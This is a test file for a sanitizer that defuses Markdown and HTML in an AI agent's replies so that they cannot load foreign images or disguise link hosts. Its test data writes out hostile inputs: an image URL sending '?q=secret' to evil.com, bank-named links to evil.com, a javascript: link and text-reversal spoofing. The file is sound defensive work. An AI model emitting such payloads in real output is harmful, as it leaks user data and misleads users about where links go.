import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { htmlDocument, markdownDocument, OWN } from '../../../test/markdown-documents.js';
import { createSafeMarkdown } from './reply-text.js';

const markdown = createSafeMarkdown(OWN);
const safe = (text: string): string => markdown.text(text);

describe('Markdown of an agent', () => {
  it.each([
    ['an image', '![a](https://evil.com/x?q=secret)', '! [a (evil.com)](https://evil.com/x?q=secret)'],
    ['an image without a text', '![](//evil.com/x)', '! [] (//evil.com/x)'],
    ['an image with a title', '![a]( <https://evil.com/x> "t")', '! [a (evil.com)]( <https://evil.com/x> "t")'],
    ['an image by reference', '![a][r]\n\n[r]: https://evil.com/x', '! [a][r]\n\n[r] : https://evil.com/x'],
    ['a reference on the next line', '[r]:\n  <//evil.com>', '[r] :\n  <//evil.com>'],
    ['a reference in a quote', '> [r]:\n> https://evil.com', '> [r] :\n> https://evil.com'],
    ['a link', '[here](https://evil.com/x)', '[here (evil.com)](https://evil.com/x)'],
    ['a link with the name of another host', '[bank.com](https://evil.com)', '[bank.com (evil.com)](https://evil.com)'],
    ['a link with brackets', '[a [b] c](https://evil.com)', '[a [b] c (evil.com)](https://evil.com)'],
    [
      'a link around an own image',
      '[![a](/v1/evil.com)](https://evil.com)',
      '[![a](/v1/evil.com) (evil.com)](https://evil.com)',
    ],
    ['a link in upper case', '[x](HTTPS://EVIL.com)', '[x (evil.com)](HTTPS://EVIL.com)'],
    ['an address without a scheme', '[x](//evil.com)', '[x] (//evil.com)'],
    ['a host without a scheme', '[Your bank](evil.com/x)', '[Your bank] (evil.com/x)'],
    ['an address with entities', '[x](&#104;ttps://evil.com)', '[x] (&#104;ttps://evil.com)'],
    ['a slash as an entity', '[x](/&sol;evil.com)', '[x] (/&sol;evil.com)'],
    ['an address with a backslash', '[x](/\\evil.com)', '[x] (/\\evil.com)'],
    ['a scheme that runs code', '[x](javascript:alert(1))', '[x] (javascript:alert(1))'],
    ['an address with a user name', '[x](https://bank.com@evil.com)', '[x] (https:// bank.com@evil.com)'],
    ['a reference to an address with a user name', '[r]://bank.com@evil.com', '[r] :// bank.com@evil.com'],
    ['a bare address with a user name', 'https://bank.com@evil.com', 'https:// bank.com@evil.com'],
    ['an image in HTML', '<img src="https://evil.com/x">', '< img src="https://evil.com/x">'],
    ['a link in HTML', '<A HREF = //evil.com>x</a>', '< A HREF = //evil.com>x</a>'],
    ['a tag with a quoted bracket', '<a title=">" href="//evil.com">', '< a title=">" href="//evil.com">'],
    ['a tag with mixed quotes', `<a x='"' y=">" href=//evil.com>`, `< a x='"' y=">" href=//evil.com>`],
    ['an image in an address in angle brackets', '<https://evil.com/![>', '< https://evil.com/![>'],
    ['a style in HTML', '<p style="a">', '< p style="a">'],
    ['a comment', '[x <!-- evil.com](https://evil.com) -->', '[x < !-- evil.com] (https://evil.com) -->'],
    ['characters that reorder text', '[\u202emoc.knab](https://evil.com)', '[moc.knab (evil.com)](https://evil.com)'],
    ['such characters as entities', '&#8238;&rlm;&#x202E;', '& #8238;& rlm;& #x202E;'],
    ['invisible characters', '!\u200b[a](https://evil.com)', '! [a (evil.com)](https://evil.com)'],
  ])('neither loads nor hides an address: %s', (_what, text, expected) => {
    expect(safe(text)).toBe(expected);
  });

  it.each([
    ['a link that ends with its host', '[The guide (example.com)](https://example.com/guide)'],
    ['a link that is its host', '[example.com](https://example.com/guide)'],
    ['a bare address', 'See https://example.com/a?b=c#d.'],
    ['an address in angle brackets', '<https://example.com/a?b=c&d=e>'],
    ['a mail address', '<ada@example.com>'],
    ['an image of our own', `![a](${OWN}/v1/assets/icon.svg)`],
    ['an image without a host', '![a](/v1/uploads/1/content?signature=a&expires=1)'],
    ['a link without a host', '[a](/v1/artifacts/1) [b](#c) [d](./e.md) [f](g)'],
    ['a reference without a host', '[a]: /v1/assets/icon.svg'],
    ['code', 'const a: Promise<void> = b; let b: { [key: string]: number }; if (a < b && c[d](e)) {}'],
    ['a block of code', '```html\n<img src="https://example.com/a.png">\n<!-- a -->\n```\n'],
    ['emoji and scripts with joiners', '👩‍👩‍👧 می‌خواهم'],
    ['HTML without addresses', '<div class="a" id=b><b>c</b></div>'],
    ['entities', '&amp; &lt; &copy; AT&T'],
  ])('is not changed if it is harmless: %s', (_what, text) => {
    expect(safe(text)).toBe(text);
  });

  it('has no block of code that a fence in a list could end for other readers', () => {
    expect(safe('- a\n  ```\n<img src="//evil.com">')).toContain('< img');
    expect(safe('```\n```js\n<b>')).toBe('```\n```js\n<b>');
    expect(safe('```\na\n```\n<img src="//evil.com">')).toContain('< img');
  });
});

/** Finds whatever any Markdown reader could take for an image, a link, a reference or a tag, in any surroundings. */
function violations(text: string): string[] {
  const foreign = (address: string): boolean =>
    /^[\s>]*<?\s*(?:[a-z][a-z0-9+.-]*(?::|&)|[a-z0-9-]+\.|\/[\\/&]|\\|&)/i.test(address) &&
    !address.replace(/^[\s>]*<?\s*/, '').startsWith(`${OWN}/v1/`);
  const found: string[] = [];
  for (const { index } of text.matchAll(/!\[/g)) {
    const inline = /^!\[[^[\]\\`<>\n]*\]\(([^]*)/.exec(text.slice(index));
    if (inline !== null && foreign(inline[1]!)) found.push(`image ${text.slice(index, index + 60)}`);
  }
  for (const { index } of text.matchAll(/\]\(/g)) {
    const address = text.slice(index + 2);
    if (!foreign(address)) continue;
    const host = /^[\s>]*<?https?:\/\/([a-z0-9.-]+)(?:[/?#:)\s>]|$)/i.exec(address)?.[1]?.toLowerCase();
    const shown = text.slice(0, index).toLowerCase();
    if (host === undefined || !(shown.endsWith(host) || shown.endsWith(`(${host})`)))
      found.push(`link ${text.slice(index, index + 60)}`);
  }
  for (const { index } of text.matchAll(/\]:/g))
    if (foreign(text.slice(index + 2))) found.push(`reference ${text.slice(index, index + 60)}`);
  if (/&(?:#8238|lrm|rlm);/.test(text)) found.push('entity');
  if (/[\u202e\u200b\r]/.test(text)) found.push('character');
  return found;
}

describe('any Markdown', () => {
  it('invariant 11: loads no image of another host, and hides no host', () => {
    fc.assert(
      fc.property(markdownDocument, (text) => {
        expect(violations(safe(text))).toEqual([]);
      }),
      { numRuns: 3_000 },
    );
  });

  it('is not changed twice', () => {
    fc.assert(
      fc.property(markdownDocument, (text) => void expect(safe(safe(text))).toBe(safe(text))),
      { numRuns: 1_500 },
    );
  });

  it('is the same if it is streamed, however it is cut, and shown text never changes', () => {
    const cuts = fc.array(fc.nat({ max: 8 }), { minLength: 1 });
    fc.assert(
      fc.property(fc.oneof(markdownDocument, htmlDocument), cuts, fc.nat(), (text, lengths, back) => {
        const whole = Array.from(text);
        const stream = markdown.stream();
        let shown = '';
        let at = 0;
        for (let turn = 0; at < whole.length; turn += 1) {
          const length = Math.max(1, lengths[turn % lengths.length]!);
          shown += stream.append(whole.slice(at, at + length).join(''));
          expect(stream.text).toBe(safe(whole.slice(0, at + length).join('')));
          at += length;
        }
        expect(shown + stream.flush()).toBe(safe(text));
        const offset = whole.slice(0, back % (whole.length + 1)).join('').length;
        const position = stream.retract(offset);
        const again = position === undefined ? '' : stream.append(text.slice(offset)) + stream.flush();
        expect(safe(text).slice(0, position) + again).toBe(safe(text));
      }),
      { numRuns: 1_500 },
    );
  });
});

it('holds at most a few characters of usual replies', () => {
  const reply =
    'Hello! See [the guide](https://example.com/guide) & more: `a < b`, **bold** text, https://example.org/x.\n'.repeat(
      20,
    );
  const stream = markdown.stream();
  let received = 0;
  let shown = 0;
  let most = 0;
  for (const part of reply.match(/.{1,4}/gs) ?? []) {
    received += part.length;
    shown += stream.append(part).length;
    most = Math.max(most, received - shown);
  }
  expect(most).toBeLessThan(40);
});
